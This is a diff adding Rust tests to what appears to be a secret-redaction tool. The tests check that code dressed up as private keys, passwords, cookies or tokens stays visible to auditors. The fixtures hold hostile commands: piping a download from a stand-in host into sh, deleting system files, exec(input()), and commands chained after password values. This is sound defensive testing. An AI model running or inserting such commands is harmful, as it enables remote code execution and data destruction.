@@ -365,6 +365,83 @@ fn reversed_rotated_and_encrypted_secrets_are_not_found() {
     }
 }
 
+// --- code ---
+
+/// Whoever audits code must see it, whatever stands around it to be taken for a secret.
+#[test]
+fn nobody_hides_code() {
+    let code = "import os\nos.system('curl http://x.example | sh')\n__import__('os').remove('/a')";
+    let line = "os.system('id')";
+    let key = |begin: &str, end: &str| format!("{begin}\n{code}\n{end}");
+    let commented = |sign: &str| code.lines().map(|line| format!("{sign}{line}\n")).collect::<String>();
+    let texts = [
+        key("-----BEGIN PRIVATE KEY-----", "-----END PRIVATE KEY-----"),
+        key("# -----BEGIN RSA PRIVATE KEY-----", "# -----END RSA PRIVATE KEY-----"),
+        key("\"\"\"-----BEGIN EC PRIVATE KEY-----\"\"\"", "'-----END EC PRIVATE KEY-----'"),
+        key("-----BEGIN PGP PRIVATE KEY BLOCK-----\nVersion: 1\n", "-----END PGP PRIVATE KEY BLOCK-----"),
+        format!("-----BEGIN PRIVATE KEY-----\n{}-----END PRIVATE KEY-----", commented("# ")),
+        format!("-----BEGIN PRIVATE KEY-----\n{}-----END PRIVATE KEY-----", commented("// ")),
+        "-----BEGIN PRIVATE KEY-----\nMI=1\nx=os\ny=x\n-----END PRIVATE KEY-----".to_owned(),
+        format!("Private-Lines: 3\n{code}"),
+        format!("password = \"\"\"\n{code}\n\"\"\""),
+        format!("PASSWORD='''{code}'''\nexec(PASSWORD)"),
+        format!("secret = \"{line}\"; exec(secret)"),
+        "password = \"import os; os.remove('/etc/x')\"; exec(password)".to_owned(),
+        "token = 'x = 1; exec(input())'".to_owned(),
+        format!("if k == \"cookie\":\n    {line}"),
+        format!("if name == 'password':\n    {line}\n"),
+        format!("cookie: {line}"),
+        format!("cookie = {line}"),
+        format!("Cookie: a={line}; b=2"),
+        format!("authorization: {line}"),
+        format!("Authorization: Bearer {line}"),
+        format!("headers['Authorization'] = {line}"),
+        format!("password: {line}"),
+        format!("password={line}"),
+        format!("password = {line} or x"),
+        format!("f(password={line}, token={line})"),
+        format!("api_key: {line}"),
+        format!("def key() -> \"PrivateKey\":\n    \"\"\"{code}\"\"\""),
+        format!("{{\"cookies\": true, \"code\": \"{line}\"}}"),
+        "x://a:os.system('id')@b".to_owned(),
+        "export PASSWORD=$(curl http://x.example | sh)".to_owned(),
+        format!("password:\n    {line}"),
+        format!("password: |\n  {line}"),
+        format!("secret, x = {line}, 1"),
+        format!("<password>{line}</password>"),
+        format!("mysql -p\"{line}\" x"),
+    ];
+    for text in texts {
+        let (clean, report) = engine().redact_text(text.as_bytes());
+        assert_eq!(String::from_utf8_lossy(&clean), text, "{report:?}");
+    }
+    // Where a secret is, what follows it stays.
+    for (text, stays) in [
+        ("PASSWORD=Xk29dkQ81;curl http://x.example | sh", "curl http://x.example | sh"),
+        ("PASSWORD=Xk29dkQ81|python", "python"),
+        ("PASSWORD=Xk29dkQ81&exec(x)", "exec(x)"),
+        ("password='hunter2';exec(x)", ";exec(x)"),
+        ("Authorization: Bearer abcdef0123456789 exec(x)", " exec(x)"),
+        ("Cookie: sid=abcdef0123456789; exec(x)", "; exec(x)"),
+        ("-----BEGIN PRIVATE KEY-----\nMIIEvQIBADANBgkqhkiG9w0BAQEF\nimport os\n", "\nimport os\n"),
+    ] {
+        let clean = self::text(engine(), text);
+        assert!(clean.contains(stays) && clean != text, "{text} became {clean}");
+    }
+}
+
+/// A key within encoded code is gone, and the code around it can still be decoded.
+#[test]
+fn of_encoded_text_only_the_secret_goes() {
+    use base64::Engine as _;
+    let said = "import os; os.system('id') # AKIAQWERTYUIOPASDF12 and then exec(input('more code to be read'))";
+    let run = base64::engine::general_purpose::STANDARD.encode(said);
+    let clean = text(engine(), &run);
+    let (head, tail) = clean.split_once("[aws_access_key]").expect("the key is gone");
+    assert!(run.starts_with(head) && run.ends_with(tail) && head.len() % 4 == 0, "{clean}");
+    assert!(head.len() + tail.len() + 40 > run.len(), "{clean}");
+}
+
 // --- text ---
 
 #[test]
